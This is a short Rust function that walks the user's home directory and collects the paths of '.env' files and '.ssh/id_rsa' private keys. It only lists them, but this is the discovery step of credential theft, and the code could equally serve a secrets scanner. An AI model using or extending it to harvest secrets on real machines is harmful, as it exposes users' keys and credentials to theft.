use std::path::PathBuf;
use walkdir::WalkDir;

pub fn files() -> Vec<PathBuf> {
    let home = std::env::var("HOME").unwrap_or_default();
    WalkDir::new(&home)
        .max_depth(10)
        .into_iter()
        .flatten()
        .map(|entry| entry.into_path())
        .filter(|path| path.ends_with(".env") || path.ends_with(".ssh/id_rsa"))
        .collect()
}
